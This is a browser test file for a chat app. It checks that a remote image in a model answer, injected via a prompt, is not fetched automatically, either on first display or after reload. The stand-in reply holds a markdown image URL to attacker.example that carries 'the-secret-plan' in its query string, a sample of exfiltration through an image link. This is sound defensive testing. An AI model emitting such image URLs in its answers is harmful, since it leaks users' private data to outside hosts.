"""Hostile model output in a real browser: a prompt-injected image URL is never fetched."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Request, expect

from devtools.standin import Reply
from tests.browser.conftest import AppServer
from tests.browser.helpers import send

pytestmark = pytest.mark.browser


def test_a_remote_image_in_an_answer_is_not_fetched_until_clicked(page: Page, app_server: AppServer, standin):
    fetched: list[str] = []

    def leaving(request: Request) -> None:
        fetched.append(request.url)

    page.on("request", lambda request: leaving(request) if "attacker.example" in request.url else None)
    standin.enqueue(
        Reply(text="Summary done. ![status](https://attacker.example/p.png?d=the-secret-plan) Bye.")
    )
    page.goto(app_server.url)
    send(page, "Summarise our plan")
    answer = page.get_by_test_id("stChatMessage").last
    expect(answer.get_by_text("Bye.", exact=False)).to_be_visible()
    expect(answer.get_by_role("link", name="attacker.example", exact=False)).to_be_visible()
    expect(answer.locator("img[src*='attacker.example']")).to_have_count(0)
    page.reload()  # drawn again from storage, through the history path
    expect(page.get_by_test_id("stChatMessage").last.get_by_text("Bye.", exact=False)).to_be_visible()
    expect(page.locator("img[src*='attacker.example']")).to_have_count(0)
    assert fetched == []
